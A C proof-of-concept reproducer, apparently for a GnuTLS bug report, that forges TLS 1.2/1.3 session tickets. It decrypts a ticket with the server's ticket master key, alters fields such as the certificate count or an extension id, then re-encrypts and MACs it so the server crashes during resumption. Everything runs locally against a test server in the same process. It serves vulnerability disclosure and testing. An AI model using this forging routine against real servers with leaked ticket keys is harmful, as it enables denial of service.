/*
 * Finding: a TLS server using gnutls_session_ticket_enable_server() dies on a
 * session ticket whose inner state was changed and then encrypted and MACed
 * again with the server's ticket key. One ClientHello is enough. The server
 * decrypts the ticket, hands the state to _gnutls_session_unpack() (the same
 * code as gnutls_session_set_data() on the client), whose errors it ignores
 * (a ticket that does not unpack means "full handshake"), and the half-filled
 * session it leaves behind crashes the server later in the handshake or in
 * gnutls_deinit(); an extension id out of range aborts at once.
 *
 * Who can forge: whoever holds the 64-byte ticket master key. The key is a
 * secret, but it is often shared between servers, kept in files, rotated
 * rarely or not at all; a leaked key should let an attacker resume sessions
 * (bad enough), not kill every server that uses it.
 *
 * Self-contained: uses only libgnutls. Client and server run in this one
 * process over in-memory buffers; the server's certificate and ticket key are
 * generated at run time. A first full handshake gives the client a ticket; the
 * program decrypts it as the server would (lib/stek.c: the key of period t is
 * SHA3-512(be64(t) || master key): name 0..16, AES-256-CBC key 16..48, HMAC-SHA1
 * key 48..64; lib/ext/session_ticket.c: key_name | IV | u16 len | ciphertext |
 * HMAC-SHA1 of all before it), changes one field of the state, encrypts and
 * MACs it again, puts it in place of the original ticket inside the client's
 * session data, and resumes against a fresh server, in a child process
 * (fork). The child notes each call it enters in shared memory; the parent
 * says how the child ended and in which call.
 *
 *   cc -o repro repro.c $(pkg-config --cflags --libs gnutls)
 *   ./repro            # the named cases; prints FINDING forged_ticket_crash: yes|no
 *   ./repro --sweep    # also flip every bit of both decrypted states
 *   ./repro --only tls12-ncerts-1    # one case in this process, for gdb or valgrind
 */
#define _GNU_SOURCE /* memmem */
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
#include <sys/mman.h>
#include <sys/wait.h>
#include <gnutls/gnutls.h>
#include <gnutls/crypto.h>
#include <gnutls/x509.h>

#define PRIO12 "NORMAL:-VERS-ALL:+VERS-TLS1.2"
#define PRIO13 "NORMAL:-VERS-ALL:+VERS-TLS1.3"
#define SERVER_PRIO "NORMAL:-VERS-ALL:+VERS-TLS1.3:+VERS-TLS1.2"
#define EXPIRE 21600 /* libgnutls's default gnutls_db_set_cache_expiration */

#define CHECK(x) do { int r_ = (x); if (r_ < 0) { \
	fprintf(stderr, "%s:%d: %s: %s\n", __FILE__, __LINE__, #x, gnutls_strerror(r_)); \
	exit(2); } } while (0)

/* ---- in-memory transport: one byte queue per direction ---- */
struct queue { unsigned char *data; size_t len, cap; };
struct end { struct queue *in, *out; };

static ssize_t push(gnutls_transport_ptr_t ptr, const void *p, size_t n)
{
	struct queue *q = ((struct end *)ptr)->out;
	if (q->len + n > q->cap) {
		q->cap = (q->len + n) * 2;
		q->data = realloc(q->data, q->cap);
		if (!q->data) abort();
	}
	memcpy(q->data + q->len, p, n);
	q->len += n;
	return n;
}

static ssize_t pull(gnutls_transport_ptr_t ptr, void *p, size_t n)
{
	struct queue *q = ((struct end *)ptr)->in;
	if (q->len == 0) { errno = EAGAIN; return -1; }
	if (n > q->len) n = q->len;
	memcpy(p, q->data, n);
	memmove(q->data, q->data + n, q->len - n);
	q->len -= n;
	return n;
}

static int pull_timeout(gnutls_transport_ptr_t ptr, unsigned ms)
{
	(void)ms;
	return ((struct end *)ptr)->in->len > 0;
}

static void attach(gnutls_session_t s, struct end *e)
{
	gnutls_transport_set_ptr(s, e);
	gnutls_transport_set_push_function(s, push);
	gnutls_transport_set_pull_function(s, pull);
	gnutls_transport_set_pull_timeout_function(s, pull_timeout);
}

/* ---- a self-signed ECDSA certificate, made now ---- */
static gnutls_certificate_credentials_t server_credentials(void)
{
	gnutls_x509_privkey_t key;
	gnutls_x509_crt_t crt;
	gnutls_certificate_credentials_t cred;
	unsigned char serial[8] = { 8, 7, 6, 5, 4, 3, 2, 1 };
	time_t now = time(NULL);

	CHECK(gnutls_x509_privkey_init(&key));
	CHECK(gnutls_x509_privkey_generate(key, GNUTLS_PK_ECDSA,
		GNUTLS_CURVE_TO_BITS(GNUTLS_ECC_CURVE_SECP256R1), 0));
	CHECK(gnutls_x509_crt_init(&crt));
	CHECK(gnutls_x509_crt_set_version(crt, 3));
	CHECK(gnutls_x509_crt_set_serial(crt, serial, sizeof serial));
	CHECK(gnutls_x509_crt_set_activation_time(crt, now - 3600));
	CHECK(gnutls_x509_crt_set_expiration_time(crt, now + 86400));
	CHECK(gnutls_x509_crt_set_dn_by_oid(crt, GNUTLS_OID_X520_COMMON_NAME, 0,
		"localhost", 9));
	CHECK(gnutls_x509_crt_set_key(crt, key));
	CHECK(gnutls_x509_crt_sign2(crt, crt, key, GNUTLS_DIG_SHA256, 0));
	CHECK(gnutls_certificate_allocate_credentials(&cred));
	CHECK(gnutls_certificate_set_x509_key(cred, &crt, 1, key));
	gnutls_x509_crt_deinit(crt);
	gnutls_x509_privkey_deinit(key);
	return cred;
}

static gnutls_certificate_credentials_t scred, ccred;
static gnutls_datum_t ticket_key;

/* Where the child is: written before each call, read by the parent after the child ended. */
static char *reached;
static void enter(const char *call) { strcpy(reached, call); }

/* The last ticket the client received (hook on NewSessionTicket, before libgnutls parses it). */
static unsigned char last_ticket[4096];
static size_t last_ticket_len;

static unsigned u16(const unsigned char *p) { return (unsigned)p[0] << 8 | p[1]; }
static unsigned u32(const unsigned char *p)
{
	return (unsigned)p[0] << 24 | p[1] << 16 | p[2] << 8 | p[3];
}
static void put16(unsigned char *p, unsigned v) { p[0] = v >> 8; p[1] = v; }
static void put32(unsigned char *p, unsigned v)
{
	p[0] = v >> 24; p[1] = v >> 16; p[2] = v >> 8; p[3] = v;
}

static int ticket_hook(gnutls_session_t s, unsigned htype, unsigned when,
		       unsigned incoming, const gnutls_datum_t *msg)
{
	const unsigned char *p = msg->data;
	size_t off, n;

	(void)htype; (void)when; (void)incoming;
	if (gnutls_protocol_get_version(s) == GNUTLS_TLS1_3) {
		/* RFC 8446 4.6.1: lifetime, age_add, nonce<0..255>, ticket<1..2^16-1>, ... */
		if (msg->size < 9) return 0;
		off = 8 + 1 + p[8];
	} else {
		/* RFC 5077 3.3: lifetime_hint, ticket<0..2^16-1> */
		off = 4;
	}
	if (off + 2 > msg->size) return 0;
	n = u16(p + off);
	if (off + 2 + n > msg->size || n > sizeof last_ticket) return 0;
	memcpy(last_ticket, p + off + 2, n);
	last_ticket_len = n;
	return 0;
}

/* Handshake client c with a fresh server (the child's server, when forked). */
static int handshake(gnutls_session_t c, struct queue *c2s, struct queue *s2c,
		     struct end *ce)
{
	struct end se = { c2s, s2c };
	gnutls_session_t s;
	int cr = GNUTLS_E_AGAIN, sr = GNUTLS_E_AGAIN, i;
	char buf[16];

	CHECK(gnutls_init(&s, GNUTLS_SERVER | GNUTLS_NONBLOCK));
	CHECK(gnutls_priority_set_direct(s, SERVER_PRIO, NULL));
	CHECK(gnutls_credentials_set(s, GNUTLS_CRD_CERTIFICATE, scred));
	CHECK(gnutls_session_ticket_enable_server(s, &ticket_key));
	attach(s, &se);
	attach(c, ce);

	for (i = 0; i < 1000 && (cr != 0 || sr != 0); i++) {
		if (cr != 0) {
			enter("client gnutls_handshake");
			cr = gnutls_handshake(c);
			if (cr < 0 && gnutls_error_is_fatal(cr)) break;
		}
		if (sr != 0) {
			enter("server gnutls_handshake");
			sr = gnutls_handshake(s);
			if (sr < 0 && gnutls_error_is_fatal(sr)) break;
		}
	}
	if (cr == 0 && sr == 0) {
		/* let the client read the TLS 1.3 NewSessionTickets */
		enter("server gnutls_record_send");
		gnutls_record_send(s, "x", 1);
		for (i = 0; i < 100; i++) {
			int r;
			enter("client gnutls_record_recv");
			r = gnutls_record_recv(c, buf, sizeof buf);
			if (r == 1) break;
			if (r != GNUTLS_E_AGAIN && r != GNUTLS_E_INTERRUPTED) { cr = r; break; }
		}
	}
	enter("server gnutls_deinit");
	gnutls_deinit(s);
	return cr;
}

/* A full handshake; the client's session data, and its ticket in last_ticket. */
static gnutls_datum_t make_blob(const char *prio)
{
	struct queue c2s = { 0 }, s2c = { 0 };
	struct end ce = { &s2c, &c2s };
	gnutls_session_t c;
	gnutls_datum_t d;

	last_ticket_len = 0;
	CHECK(gnutls_init(&c, GNUTLS_CLIENT | GNUTLS_NONBLOCK));
	CHECK(gnutls_priority_set_direct(c, prio, NULL));
	CHECK(gnutls_credentials_set(c, GNUTLS_CRD_CERTIFICATE, ccred));
	gnutls_handshake_set_hook_function(c, GNUTLS_HANDSHAKE_NEW_SESSION_TICKET,
					   GNUTLS_HOOK_PRE, ticket_hook);
	CHECK(handshake(c, &c2s, &s2c, &ce));
	CHECK(gnutls_session_get_data2(c, &d));
	gnutls_deinit(c);
	free(c2s.data); free(s2c.data);
	return d;
}

/* ---- the server's ticket keys (lib/stek.c) ---- */
struct stek { unsigned char name[16], enc[32], mac[16]; };

static void period_key(int64_t t, struct stek *k)
{
	unsigned char in[8 + 64], out[64];
	int i;

	for (i = 0; i < 8; i++) in[i] = (unsigned char)((uint64_t)t >> (56 - 8 * i));
	memcpy(in + 8, ticket_key.data, 64);
	CHECK(gnutls_hash_fast(GNUTLS_DIG_SHA3_512, in, sizeof in, out));
	memcpy(k->name, out, 16);
	memcpy(k->enc, out + 16, 32);
	memcpy(k->mac, out + 48, 16);
}

/* The period key that named this ticket: this period, the one before or after. */
static int find_key(const unsigned char *ticket, struct stek *k)
{
	int64_t now = time(NULL) / (3 * EXPIRE), t;

	for (t = now - 1; t <= now + 1; t++) {
		period_key(t, k);
		if (memcmp(k->name, ticket, 16) == 0) return 0;
	}
	return -1;
}

/* ticket = key_name[16] | IV[16] | u16 len | ciphertext[len] | mac[20] */
static int decrypt_ticket(const unsigned char *ticket, size_t n, const struct stek *k,
			  unsigned char *plain, size_t *plain_len)
{
	gnutls_cipher_hd_t h;
	gnutls_datum_t key = { (unsigned char *)k->enc, 32 }, iv;
	unsigned char mac[20];
	size_t len;

	if (n < 54) return -1;
	len = u16(ticket + 32);
	if (54 + len != n || len % 16) return -1;
	CHECK(gnutls_hmac_fast(GNUTLS_MAC_SHA1, k->mac, 16, ticket, n - 20, mac));
	if (memcmp(mac, ticket + n - 20, 20) != 0) return -1;
	iv.data = (unsigned char *)ticket + 16; iv.size = 16;
	CHECK(gnutls_cipher_init(&h, GNUTLS_CIPHER_AES_256_CBC, &key, &iv));
	CHECK(gnutls_cipher_decrypt2(h, ticket + 34, len, plain, len));
	gnutls_cipher_deinit(h);
	*plain_len = len;
	return 0;
}

/* The same envelope around a changed plaintext of the same length, with a fresh IV. */
static void encrypt_ticket(const unsigned char *plain, size_t len, const struct stek *k,
			   unsigned char *ticket)
{
	gnutls_cipher_hd_t h;
	gnutls_datum_t key = { (unsigned char *)k->enc, 32 }, iv;

	memcpy(ticket, k->name, 16);
	CHECK(gnutls_rnd(GNUTLS_RND_NONCE, ticket + 16, 16));
	put16(ticket + 32, len);
	iv.data = ticket + 16; iv.size = 16;
	CHECK(gnutls_cipher_init(&h, GNUTLS_CIPHER_AES_256_CBC, &key, &iv));
	CHECK(gnutls_cipher_encrypt2(h, plain, len, ticket + 34, len));
	gnutls_cipher_deinit(h);
	CHECK(gnutls_hmac_fast(GNUTLS_MAC_SHA1, k->mac, 16, ticket, 34 + len, ticket + 34 + len));
}

/* ---- the state inside the ticket ----
 * TLS 1.2 (lib/ext/session_ticket.c): the server's packed session (lib/session_pack.c,
 * _gnutls_session_pack), then zero padding. TLS 1.3 (lib/tls13/session_ticket.c, pack_ticket):
 * u16 prf, u32 age_add, u32 lifetime, resumption secret<u8>, nonce<u8>, packed session<u16>,
 * creation time (12 bytes), zero padding.
 * Packed session, u32 big-endian numbers: magic, timestamp, expire_time, auth type (u8),
 * auth info (size, then for certificates: dh secret_bits, dh prime, generator, public key
 * (len+data each), ncerts, ncerts x (len+DER), nocsp, nocsp x (len+data)), security parameters
 * (size + data), TLS 1.3 only: ticket (size + data), TLS 1.2 only: hello extensions (count,
 * count x (id, size, data)). */
struct layout {
	size_t session;   /* where the packed session starts in the plaintext */
	size_t ncerts;    /* offset of the certificate count, 0 if the auth info is empty */
	size_t ext_id;    /* TLS 1.2: offset of the first extension id, else 0 */
};

static int parse_state(const unsigned char *p, size_t n, int tls13, struct layout *l)
{
	size_t off = 0, auth_end, i;

	memset(l, 0, sizeof *l);
	if (tls13) {
		off = 2 + 4 + 4;
		if (off >= n) return -1;
		off += 1 + p[off];                    /* resumption secret */
		if (off >= n) return -1;
		off += 1 + p[off];                    /* nonce */
		off += 2;                             /* length of the packed session */
	}
	l->session = off;
	if (off + 17 > n || p[off + 12] != GNUTLS_CRD_CERTIFICATE) return -1;
	off += 13;
	auth_end = off + 4 + u32(p + off);
	if (auth_end > n) return -1;
	if (auth_end > off + 4) {
		off += 4 + 4;                         /* size, dh secret_bits */
		for (i = 0; i < 3; i++) off += 4 + u32(p + off);
		l->ncerts = off;
	}
	off = auth_end;
	if (off + 4 > n) return -1;
	off += 4 + u32(p + off);                  /* security parameters */
	if (!tls13) {
		if (off + 8 > n || u32(p + off) == 0) return -1;
		l->ext_id = off + 4;
	}
	return 0;
}

/* ---- one try, in a child ---- */
struct outcome { int how_signal, code, handshake_rc, resumed; char reached[40]; };

static struct { int handshake_rc, resumed; char reached[40]; } *shared;

static void child(const gnutls_datum_t *blob, const char *prio, int quiet)
{
	struct queue c2s = { 0 }, s2c = { 0 };
	struct end ce = { &s2c, &c2s };
	gnutls_session_t c;
	int r;

	if (quiet) {  /* the sweep: keep assert() messages off the terminal */
		int devnull = open("/dev/null", O_WRONLY);
		if (devnull >= 0) dup2(devnull, 2);
	}
	alarm(10);
	CHECK(gnutls_init(&c, GNUTLS_CLIENT | GNUTLS_NONBLOCK));
	CHECK(gnutls_priority_set_direct(c, prio, NULL));
	CHECK(gnutls_credentials_set(c, GNUTLS_CRD_CERTIFICATE, ccred));
	enter("client gnutls_session_set_data");
	CHECK(gnutls_session_set_data(c, blob->data, blob->size)); /* the client's part is intact */
	r = handshake(c, &c2s, &s2c, &ce);
	shared->handshake_rc = r;
	shared->resumed = r == 0 && gnutls_session_is_resumed(c);
	enter("client gnutls_deinit");
	gnutls_deinit(c);
	enter("(end)");
	_exit(0);
}

static void try_blob(const gnutls_datum_t *blob, const char *prio, int quiet, struct outcome *o)
{
	int status;
	pid_t pid;

	memset(shared, 0, sizeof *shared);
	shared->handshake_rc = 1;
	fflush(stdout);
	pid = fork();
	if (pid < 0) { perror("fork"); exit(2); }
	if (pid == 0) child(blob, prio, quiet);
	waitpid(pid, &status, 0);
	memset(o, 0, sizeof *o);
	o->how_signal = WIFSIGNALED(status);
	o->code = o->how_signal ? WTERMSIG(status) : WEXITSTATUS(status);
	o->handshake_rc = shared->handshake_rc;
	o->resumed = shared->resumed;
	strcpy(o->reached, shared->reached);
}

static const char *signame(int sig)
{
	static char buf[16];
	switch (sig) {
	case SIGABRT: return "SIGABRT";
	case SIGSEGV: return "SIGSEGV";
	case SIGBUS: return "SIGBUS";
	case SIGFPE: return "SIGFPE";
	case SIGALRM: return "SIGALRM (timeout)";
	}
	sprintf(buf, "signal %d", sig);
	return buf;
}

static void report(const char *name, const struct outcome *o)
{
	printf("CASE %s: ", name);
	if (o->how_signal)
		printf("died in %s (%s)\n", o->reached, signame(o->code));
	else if (o->code)
		printf("exited with status %d in %s\n", o->code, o->reached);
	else
		printf("handshake=%d(%s)%s end=exited normally\n", o->handshake_rc,
		       o->handshake_rc ? gnutls_strerror_name(o->handshake_rc) : "ok",
		       o->handshake_rc ? "" : (o->resumed ? ",resumed" : ",full"));
}

/* A client blob, its ticket decrypted, ready to be changed and put back. */
struct subject {
	const char *label, *prio;
	int tls13;
	gnutls_datum_t blob;
	size_t ticket_at, ticket_len;     /* where the ticket sits in the client's blob */
	struct stek key;
	unsigned char plain[4096];
	size_t plain_len;
	struct layout layout;
};

static int prepare(struct subject *s)
{
	unsigned char *at;

	s->blob = make_blob(s->prio);
	if (last_ticket_len == 0) return -1;
	at = memmem(s->blob.data, s->blob.size, last_ticket, last_ticket_len);
	if (!at || memmem(at + 1, s->blob.data + s->blob.size - at - 1, last_ticket, last_ticket_len))
		return -1;  /* not found exactly once */
	s->ticket_at = at - s->blob.data;
	s->ticket_len = last_ticket_len;
	if (find_key(at, &s->key) || decrypt_ticket(at, last_ticket_len, &s->key, s->plain, &s->plain_len))
		return -1;
	return parse_state(s->plain, s->plain_len, s->tls13, &s->layout);
}

/* Resume with the client's blob whose ticket now carries ``plain`` (same length). */
static void forge_and_try(const struct subject *s, const unsigned char *plain, int quiet, struct outcome *o)
{
	gnutls_datum_t blob = { malloc(s->blob.size), s->blob.size };

	memcpy(blob.data, s->blob.data, s->blob.size);
	encrypt_ticket(plain, s->plain_len, &s->key, blob.data + s->ticket_at);
	try_blob(&blob, s->prio, quiet, o);
	free(blob.data);
}

static void sweep(const struct subject *s)
{
	unsigned char plain[4096];
	size_t i, bit, tried = 0, deaths = 0, resumed = 0, full = 0, other = 0;
	struct outcome o;
	char name[64];

	for (i = 0; i < s->plain_len; i++) {
		for (bit = 0; bit < 8; bit++) {
			memcpy(plain, s->plain, s->plain_len);
			plain[i] ^= 1u << bit;
			forge_and_try(s, plain, 1, &o);
			tried++;
			if (o.how_signal) {
				deaths++;
				snprintf(name, sizeof name, "sweep-%s-byte%zu-bit%zu", s->label, i, bit);
				report(name, &o);
			} else if (o.code == 0 && o.handshake_rc == 0) {
				if (o.resumed) resumed++; else full++;
			} else other++;
		}
	}
	printf("SWEEP %s summary: %zu flips of the %zu-byte state: %zu killed the process, "
	       "%zu resumed, %zu full handshakes, %zu failed handshakes without a crash\n",
	       s->label, tried, s->plain_len, deaths, resumed, full, other);
}

int main(int argc, char **argv)
{
	struct subject s12 = { "tls12", PRIO12, 0 }, s13 = { "tls13", PRIO13, 1 };
	struct subject *subjects[] = { &s12, &s13 };
	unsigned char plain[4096];
	struct outcome o;
	int crashes = 0, cases = 0, i;
	int do_sweep = argc > 1 && strcmp(argv[1], "--sweep") == 0;
	const char *only = argc > 2 && strcmp(argv[1], "--only") == 0 ? argv[2] : NULL;

	setvbuf(stdout, NULL, _IOLBF, 0);
	shared = mmap(NULL, sizeof *shared, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	if (shared == MAP_FAILED) { perror("mmap"); return 2; }
	reached = shared->reached;
	CHECK(gnutls_global_init());
	printf("GnuTLS %s\n", gnutls_check_version(NULL));
	scred = server_credentials();
	CHECK(gnutls_certificate_allocate_credentials(&ccred));
	CHECK(gnutls_session_ticket_key_generate(&ticket_key));

	for (i = 0; i < 2; i++) {
		if (prepare(subjects[i])) {
			printf("FINDING forged_ticket_crash: unknown (%s ticket not as expected)\n",
			       subjects[i]->label);
			return 2;
		}
	}
	printf("LAYOUT tls12: state %zu bytes, ncerts at %zu, first extension id at %zu\n",
	       s12.plain_len, s12.layout.ncerts, s12.layout.ext_id);
	printf("LAYOUT tls13: state %zu bytes, packed session at %zu, auth info %s\n",
	       s13.plain_len, s13.layout.session, s13.layout.ncerts ? "present" : "empty");

	/* Controls: the same ticket, re-encrypted unchanged under a new IV, resumes. */
	for (i = 0; i < 2; i++) {
		char name[32];
		snprintf(name, sizeof name, "control-%s", subjects[i]->label);
		forge_and_try(subjects[i], subjects[i]->plain, 0, &o);
		report(name, &o);
	}

	/* The named cases: one field of the TLS 1.2 state. */
	{
		struct { const char *name; size_t at; unsigned value; } named[] = {
			{ "tls12-ncerts-1", s12.layout.ncerts, 1 },
			{ "tls12-nocsp-ffffffff", s12.layout.ncerts + 4, 0xffffffff },
			{ "tls12-ext-id-ffffffff", s12.layout.ext_id, 0xffffffff },
		};
		if (!s12.layout.ncerts || u32(s12.plain + s12.layout.ncerts) != 0) {
			printf("FINDING forged_ticket_crash: unknown (TLS 1.2 state without an empty certificate list)\n");
			return 2;
		}
		for (i = 0; i < 3; i++) {
			memcpy(plain, s12.plain, s12.plain_len);
			put32(plain + named[i].at, named[i].value);
			if (only && strcmp(only, named[i].name) == 0) {  /* no fork: the debugger sees it */
				gnutls_datum_t blob = { s12.blob.data, s12.blob.size };
				encrypt_ticket(plain, s12.plain_len, &s12.key, blob.data + s12.ticket_at);
				child(&blob, s12.prio, 0);
			}
			if (only)
				continue;
			forge_and_try(&s12, plain, 0, &o);
			report(named[i].name, &o);
			cases++;
			crashes += o.how_signal;
		}
	}

	if (do_sweep) {
		sweep(&s12);
		sweep(&s13);
	}
	printf("FINDING forged_ticket_crash: %s (%d of %d named cases killed the server's process)\n",
	       crashes ? "yes" : "no", crashes, cases);
	return 0;
}
